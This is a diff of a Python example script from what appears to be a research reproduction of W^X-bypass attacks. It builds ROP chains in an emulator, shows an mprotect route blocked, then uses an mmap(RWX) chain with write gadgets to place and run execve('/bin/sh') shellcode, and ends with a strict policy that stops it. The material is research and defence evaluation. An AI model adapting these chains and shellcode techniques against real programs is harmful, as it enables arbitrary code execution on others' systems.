@@ -1,70 +1,68 @@
 #!/usr/bin/env python3
-"""Full W^X bypass: mprotect chain + second-stage shellcode.
+"""W^X bypass under an *enforced* W^X policy: mprotect dies, mmap wins.
 
-The paper's second attack family (Sec. II-B): "invoke the system call
-mprotect to mark a page containing attacker-controlled content as
-executable and then redirect the program execution toward that tampered
-page."  This example carries it through to the end:
+The paper's second attack family (Sec. II-B) marks a page holding
+attacker content executable and jumps into it.  Earlier revisions of
+this example ran that mprotect route on an undefended victim; here the
+victim actually deploys W^X (``repro.defenses``, modelled as an
+mprotect-hooking monitor that vetoes +X on writable memory), and the
+example shows all three acts:
 
-1. Gadget-Planner builds an mprotect chain that makes the *stack page
-   holding the payload itself* executable.
-2. The payload is extended with raw shellcode (assembled on the fly)
-   and a pointer so that the `ret` after the goal syscall lands on it.
-3. The whole thing is executed: mprotect is modelled (the page really
-   becomes executable), the chain returns into the payload, and the
-   shellcode's execve("/bin/sh") proves arbitrary code execution.
-
-Because the victim machine has no ASLR (threat model), the payload's
-stack address is discovered with a deterministic dry run.
+1. **mprotect route, blocked** — the classic chain asks for
+   ``mprotect(stack_page, RWX)``; the policy vetoes it with ``-EACCES``
+   and the "shellcode" on the stack stays data.
+2. **mmap route, end to end** — the same gadget set instead calls
+   ``mmap(0, 0x1000, RWX)``.  Fresh mappings don't trip an
+   mprotect-hooking deployment, the model hands back a deterministic
+   RWX page, the chain's continuation *writes the shellcode into it*
+   with the write-what-where gadget and returns into it:
+   ``execve("/bin/sh")`` fires under the enforced policy.
+3. **strict mmap closes the hole** — under ``wx_strict`` the W|X mmap
+   is vetoed too and the whole bypass collapses.
 
 Run:  python examples/wx_bypass.py
 """
 
+import struct
+
 from repro.binfmt import make_image
-from repro.emulator import AttackTriggered, Emulator, Sys
+from repro.defenses import POLICIES, PolicyEnforcer
+from repro.emulator import Emulator, Sys
 from repro.emulator.memory import PERM_R, PERM_W
+from repro.emulator.syscalls import MMAP_BASE
 from repro.isa import Reg, assemble, assemble_unit
-from repro.planner import GadgetPlanner, mprotect_goal
+from repro.planner import GadgetPlanner, mmap_goal, mprotect_goal
 from repro.planner.payload import JUNK_REGION
 
 VICTIM = """
     hlt
-g1:
+g_pop_rax:
     pop rax
     ret
-g2:
+g_pop_rdi:
     pop rdi
     ret
-g3:
+g_pop_rsi:
     pop rsi
     ret
-g4:
+g_pop_rdx:
     pop rdx
     ret
-g5:
+g_write:
+    mov [rdi+0], rsi
+    ret
+g_syscall:
     syscall
     ret
 """
 
-
-def build_stage2_shellcode() -> bytes:
-    """execve("/bin/sh", 0, 0) — with the path embedded in the code."""
-    return assemble(
-        """
-        start:
-            mov rdi, path
-            mov rsi, 0
-            mov rdx, 0
-            mov rax, 59
-            syscall
-        path:
-        """,
-        base_addr=0,  # patched below once the landing address is known
-    )
+_EACCES = (-13) & ((1 << 64) - 1)
 
 
-def run_with_payload(image, payload_bytes, *, stop_on_attack):
-    emu = Emulator(image, stop_on_attack=stop_on_attack, step_limit=1_000_000)
+def run_enforced(image, payload_bytes, policy):
+    """Execute raw payload bytes on the stack with ``policy`` enforced."""
+    emu = Emulator(image, stop_on_attack=False, step_limit=1_000_000)
+    enforcer = PolicyEnforcer(policy, image=image).install(emu)
     emu.memory.map(JUNK_REGION, 0x2000, PERM_R | PERM_W)
     for reg in Reg:
         if reg is not Reg.RSP:
@@ -73,64 +71,104 @@ def run_with_payload(image, payload_bytes, *, stop_on_attack):
     emu.memory.write(base, payload_bytes)
     emu.cpu.set(Reg.RSP, base + 8)
     emu.cpu.rip = int.from_bytes(payload_bytes[:8], "little")
-    return emu, base
+    try:
+        emu.run()
+    except Exception:
+        pass  # the run ends when execution falls off the payload
+    return emu, enforcer
 
 
-def main() -> None:
-    unit = assemble_unit(VICTIM, base_addr=0x400000)
-    image = make_image(unit.code, symbols=dict(unit.labels))
+def continuation_offset(payload) -> int:
+    """Stack offset the goal gadget's trailing ``ret`` pops from."""
+    return 8 + sum(g.stack_delta or 0 for g in payload.chain)
 
-    # Probe the stack layout first: where will the payload live?
-    probe = Emulator(image)
-    stack_base = probe.cpu.get(Reg.RSP)
-    page = stack_base & ~0xFFF
 
-    print(f"payload will live at {stack_base:#x} (page {page:#x})")
-    planner = GadgetPlanner(image)
-    report = planner.run(goals=[mprotect_goal(addr=page, length=0x4000, prot=7)])
-    assert report.payloads, "no mprotect chain found"
-    payload = report.payloads[0]
-    print("stage 1 (mprotect chain):")
-    print(payload.describe())
+def splice(payload, extra_words) -> bytes:
+    """Payload bytes with ``extra_words`` spliced in at the ret slot."""
+    blob = bytearray(payload.to_bytes())
+    offset = continuation_offset(payload)
+    if len(blob) < offset:
+        blob += b"\x41" * (offset - len(blob))
+    return bytes(blob[:offset]) + b"".join(
+        struct.pack("<Q", w & ((1 << 64) - 1)) for w in extra_words
+    )
 
-    # Stage 2: the `ret` after the goal syscall pops the word at
-    # base + 8 + Σ(stack deltas) — plant the shellcode pointer exactly
-    # there, and the shellcode right after the payload.
-    chain_bytes = bytearray(payload.to_bytes())
-    pointer_offset = 8 + sum(g.stack_delta or 0 for g in payload.chain)
-    if len(chain_bytes) < pointer_offset + 8:
-        chain_bytes += b"\x41" * (pointer_offset + 8 - len(chain_bytes))
-    shellcode_addr = stack_base + len(chain_bytes)
-    shellcode = assemble(
+
+def build_shellcode(base_addr) -> bytes:
+    """execve("/bin/sh", 0, 0), path embedded, padded to whole qwords."""
+    code = assemble(
         f"""
         start:
-            mov rdi, {shellcode_addr + 0x30}
+            mov rdi, {base_addr + 0x30}
             mov rsi, 0
             mov rdx, 0
             mov rax, 59
             syscall
         """,
     )
-    shellcode = shellcode.ljust(0x30, b"\x00") + b"/bin/sh\x00"
-    chain_bytes[pointer_offset : pointer_offset + 8] = shellcode_addr.to_bytes(8, "little")
-    full = bytes(chain_bytes) + shellcode
-    print(f"\nstage 2: {len(shellcode)} bytes of shellcode at {shellcode_addr:#x}")
+    blob = code.ljust(0x30, b"\x00") + b"/bin/sh\x00"
+    return blob.ljust((len(blob) + 7) & ~7, b"\x00")
 
-    emu, _ = run_with_payload(image, full, stop_on_attack=False)
-    try:
-        emu.run()
-    except AttackTriggered as attack:
-        print(f"\nfirst stop: {attack.event.number.name}{attack.event.args[:3]}")
-    except Exception:
-        pass  # the run ends when execution falls off the shellcode
+
+def main() -> None:
+    unit = assemble_unit(VICTIM, base_addr=0x400000)
+    image = make_image(unit.code, symbols=dict(unit.labels))
+    labels = unit.labels
+    wx = POLICIES["wx"]
+
+    # -- act 1: the mprotect route dies under W^X -------------------------
+    probe = Emulator(image)
+    page = probe.cpu.get(Reg.RSP) & ~0xFFF
+    planner = GadgetPlanner(image)
+    report = planner.run(goals=[mprotect_goal(addr=page, length=0x4000, prot=7)])
+    assert report.payloads, "no mprotect chain found"
+    emu, enforcer = run_enforced(image, report.payloads[0].to_bytes(), wx)
+    assert enforcer.denied_syscalls, "W^X monitor saw no mprotect?"
+    assert not any(e.number == Sys.MPROTECT for e in emu.syscalls.events)
+    assert emu.cpu.get(Reg.RAX) == _EACCES or not emu.syscalls.events
+    print(f"act 1: mprotect(stack_page, RWX) vetoed with -EACCES under {wx}")
+
+    # -- act 2: mmap(RWX) + write-what-where, end to end ------------------
+    report = planner.run(goals=[mmap_goal(length=0x1000, prot=7)])
+    assert report.payloads, "no mmap chain found"
+    payload = report.payloads[0]
+    print("\nact 2: stage 1 (mmap chain):")
+    print(payload.describe())
+
+    # The model's anonymous-mmap allocator is deterministic: the fresh
+    # RWX page lands at MMAP_BASE.  Continue the chain after the goal
+    # syscall: write the shellcode into the page 8 bytes at a time with
+    # the write gadget, then ret straight into it.
+    shellcode = build_shellcode(MMAP_BASE)
+    extra = []
+    for i in range(0, len(shellcode), 8):
+        (chunk,) = struct.unpack("<Q", shellcode[i : i + 8])
+        extra += [labels["g_pop_rdi"], MMAP_BASE + i]
+        extra += [labels["g_pop_rsi"], chunk]
+        extra += [labels["g_write"]]
+    extra.append(MMAP_BASE)
+    full = splice(payload, extra)
+    print(
+        f"stage 2: {len(shellcode)} shellcode bytes written to {MMAP_BASE:#x} "
+        f"by {len(shellcode) // 8} write gadgets, then ret into the mapping"
+    )
+
+    emu, enforcer = run_enforced(image, full, wx)
     events = emu.syscalls.events
-    assert events[0].number == Sys.MPROTECT, "mprotect did not fire"
+    assert enforcer.denied_syscalls == [], "plain wx must not veto fresh mmap"
+    assert events and events[0].number == Sys.MMAP, "mmap never fired"
     shell = next((e for e in events if e.number == Sys.EXECVE), None)
-    if shell is None:
-        # stop_on_attack=False records and continues; keep running.
-        raise SystemExit("execve never fired — W^X bypass failed")
-    print(f"mprotect({events[0].addr:#x}, ...) made the stack executable")
-    print(f"shellcode ran: execve({shell.path!r}, 0, 0) ✔")
+    assert shell is not None, "execve never fired — W^X bypass failed"
+    assert shell.path == b"/bin/sh"
+    print(f"mmap(0, 0x1000, RWX) -> {MMAP_BASE:#x} (fresh pages, not hooked)")
+    print(f"shellcode ran under enforced W^X: execve({shell.path!r}, 0, 0) ✔")
+
+    # -- act 3: strict mmap hooking closes the bypass ---------------------
+    emu, enforcer = run_enforced(image, full, POLICIES["wx_strict"])
+    assert enforcer.denied_syscalls, "strict policy must veto W|X mmap"
+    assert not any(e.number == Sys.EXECVE for e in emu.syscalls.events)
+    print(f"\nact 3: under {POLICIES['wx_strict']} the W|X mmap is vetoed too —")
+    print("the write gadgets fault on the unmapped page and no shell spawns ✔")
 
 
 if __name__ == "__main__":
